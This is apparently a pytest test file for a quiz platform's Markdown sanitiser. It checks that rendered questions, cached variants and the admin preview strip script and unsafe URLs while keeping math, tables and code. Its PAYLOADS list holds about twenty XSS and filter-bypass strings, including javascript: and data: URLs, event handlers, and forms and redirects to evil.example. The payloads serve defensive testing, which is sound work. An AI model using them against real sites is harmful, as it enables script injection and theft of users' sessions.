"""Authored Markdown cannot put script on a page: render_markdown, question_context (which also cleans HTML
cached in variants before sanitising existed) and the admin preview keep only an allow-list of tags,
attributes and URL schemes, while math, tables, highlighted code and ordinary links survive."""
from __future__ import annotations

from html.parser import HTMLParser
from types import SimpleNamespace
from typing import Any

import pytest
from django.urls import reverse

from exams.views.presentation import question_context
from quizbank.rendering import highlight_python, render_markdown, sanitise_html
from quizbank.services import save_spec
from quizbank.spec import TemplateSpec

PAYLOADS = [
    "<script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=2">',
    "[link](javascript:window.__pwned=3)",
    '<a href="javascript:window.__pwned=4">raw</a>',
    '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
    '<a href="java&#x09;script:alert(1)">entity tab</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    "![pic](javascript:alert(1))",
    '<img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;">',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/"><input name="password"><button formaction="javascript:alert(1)">go</button></form>',
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    '<math><mtext><img src=x onerror="alert(1)"></mtext></math>',
    '<p style="background:url(javascript:alert(1))" onclick="alert(1)">styled</p>',
    '<div onmouseover="alert(1)" id="quiz">clobber</div>',
    '<details open ontoggle="alert(1)"><summary>s</summary></details>',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css"><style>body{display:none}</style>',
    '<a href="#" onclick="alert(1)">hash</a>',
    "<scr<script>ipt>alert(1)</script>",
    '<img src="x" onerror=alert(1)//',
]
FORBIDDEN_TAGS = {"script", "iframe", "object", "embed", "form", "input", "button", "svg", "math", "style",
                  "link", "meta", "base", "details", "textarea", "select"}
ALLOWED_SCHEMES = ("http:", "https:", "mailto:")


class _Html(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def parsed(fragment: str) -> _Html:
    parser = _Html()
    parser.feed(fragment)
    parser.close()
    return parser


def dangerous_parts(fragment: str) -> list[str]:
    found = []
    for tag, attrs in parsed(fragment).tags:
        if tag in FORBIDDEN_TAGS:
            found.append(f"<{tag}>")
        for name, value in attrs.items():
            if name.startswith("on") or name in {"style", "id", "formaction", "srcdoc"}:
                found.append(f"{tag}[{name}]")
            scheme = value.strip().lower().split("/", 1)[0]
            if name in {"href", "src"} and ":" in scheme and not scheme.startswith(ALLOWED_SCHEMES):
                found.append(f"{tag}[{name}={value}]")
            if "javascript:" in value.lower():
                found.append(f"{tag}[{name}={value}]")
    return found


def text_of(fragment: str) -> str:
    return "".join(parsed(fragment).text)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_render_markdown_leaves_no_tag_attribute_or_scheme_that_can_run_script(payload: str) -> None:
    rendered = render_markdown(f"Before.\n\n{payload}\n\nAfter $x^2$.")
    assert dangerous_parts(rendered) == [], rendered
    assert "Before." in rendered and r"\(x^2\)" in rendered


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_inside_a_table_cell_or_list_item_are_cleaned_too(payload: str) -> None:
    rendered = render_markdown(f"| a | b |\n|---|---|\n| {payload} | 1 |\n\n- {payload}\n")
    assert dangerous_parts(rendered) == [], rendered


def test_math_with_less_than_ampersand_and_escaped_braces_reaches_the_page_as_its_tex() -> None:
    rendered = render_markdown(r"If $a < b$ and $p \& q$ then $\{x\}$ holds; $$\sum_{i<n} x_i & y$$")
    text = text_of(rendered)
    assert r"\(a < b\)" in text
    assert r"\(p \& q\)" in text
    assert r"\(\{x\}\)" in text
    assert r"\[\sum_{i<n} x_i & y\]" in text
    assert '<span class="math inline">' in rendered and '<div class="math display">' in rendered


def test_tables_keep_their_structure_and_column_alignment() -> None:
    rendered = render_markdown("| name | value |\n|:-----|------:|\n| lr | 0.01 |\n")
    tags = [tag for tag, _ in parsed(rendered).tags]
    assert tags[:2] == ["table", "thead"] and "tbody" in tags and tags.count("td") == 2
    assert '<th align="right">value</th>' in rendered and '<td align="left">lr</td>' in rendered


def test_fenced_code_keeps_the_pygments_classes_and_escapes_the_code() -> None:
    rendered = render_markdown('```python\ndef f(x):\n    return "<b>" if x < 1 else x & 2\n```\n\nUse `f(0)`.')
    assert '<div class="highlight">' in rendered
    assert '<span class="k">def</span>' in rendered and '<span class="nf">f</span>' in rendered
    assert "&lt;b&gt;" in rendered and "<b>" not in rendered
    assert "<code>f(0)</code>" in rendered


def test_highlighted_programs_keep_their_classes() -> None:
    highlighted = highlight_python('print("<script>alert(1)</script>")\n')
    assert '<span class="nb">print</span>' in highlighted
    assert "<script>" not in highlighted and dangerous_parts(highlighted) == []


def test_http_https_mailto_and_relative_links_and_images_survive() -> None:
    rendered = render_markdown("[docs](https://pytorch.org/docs) [old](http://example.org/) "
                               "[mail](mailto:ta@example.edu) [here](/static/notes.pdf) ![fig](/static/fig.png)")
    tags = parsed(rendered).tags
    hrefs = [attrs["href"] for tag, attrs in tags if tag == "a"]
    assert hrefs == ["https://pytorch.org/docs", "http://example.org/", "mailto:ta@example.edu", "/static/notes.pdf"]
    assert ("img", {"alt": "fig", "src": "/static/fig.png"}) in tags
    assert all(attrs.get("rel") == "noopener noreferrer" for tag, attrs in tags if tag == "a")


def test_classes_other_than_highlighting_and_math_are_dropped() -> None:
    cleaned = sanitise_html('<div class="notice ok CodeMirror">x</div><span class="math inline k">y</span>')
    assert "notice" not in cleaned and "CodeMirror" not in cleaned
    assert 'class="math inline k"' in cleaned


def _slot(text: str = "") -> SimpleNamespace:
    return SimpleNamespace(slot_id=7, position=1, text=text)


def _item(explanation_html: str) -> SimpleNamespace:
    return SimpleNamespace(slot_id=7, position=1, text="0", score=1.0, grading_state="graded", valid=True,
                           feedback="", feedback_data={}, correct_answer="4", explanation_html=explanation_html)


def _cached_public(payload: str) -> dict[str, Any]:
    """A variant's public part as cached before sanitising existed: raw authored HTML inside."""
    return {"kind": "mcq", "answer_format": "choice", "stem_html": f"<p>Stem $x$</p>{payload}",
            "program_html": payload, "options": [{"text": "a", "html": payload}, {"text": payload}]}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_question_context_cleans_html_cached_in_old_variants(payload: str) -> None:
    html_payload = render_markdown(payload) if payload.startswith(("[", "!")) else payload
    context = question_context(_cached_public(html_payload), question=_slot())
    for fragment in (context["stem_html"], context["program_html"], *(o["html"] for o in context["options"])):
        assert dangerous_parts(fragment) == [], fragment
    assert context["stem_html"].startswith("<p>Stem $x$</p>")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_question_context_cleans_a_released_explanation(payload: str) -> None:
    context = question_context(_cached_public(""), item=_item(f"<p>Because $x$.</p>{payload}"))
    assert dangerous_parts(context["explanation_html"]) == [], context["explanation_html"]
    assert "Because $x$." in context["explanation_html"]


def test_an_option_without_html_is_shown_as_escaped_text() -> None:
    public = {"kind": "mcq", "answer_format": "choice", "options": [{"text": "<b>x</b> & y"}]}
    assert question_context(public, question=_slot())["options"][0]["html"] == "&lt;b&gt;x&lt;/b&gt; &amp; y"


HOSTILE = TemplateSpec(
    slug="hostile-preview", title="Hostile preview", kind="short", qtype="short", lectures=(1,),
    parameters="k = rng.randint(2, 5)\n",
    stem="Square $x^2$ for {{ k }}.\n\n" + "\n\n".join(PAYLOADS[:4]),
    solution="answer = k * k\n", answer={"format": "numeric"},
    explanation='Because <img src=x onerror="window.__pwned=5"> $k^2$.',
)


def test_the_admin_preview_shows_sanitised_stems_and_explanations(admin_client) -> None:
    template = save_spec(HOSTILE)
    response = admin_client.get(reverse("admin:quizbank_template_preview", args=[template.pk]) + "?seeds=1")
    page = response.content.decode()
    cards = page[page.index('<div class="qb-cards">'):page.rindex("</section>")]
    assert response.status_code == 200 and "Square" in cards and r"\(x^2\)" in cards
    assert dangerous_parts(cards) == []
    assert "__pwned" not in cards
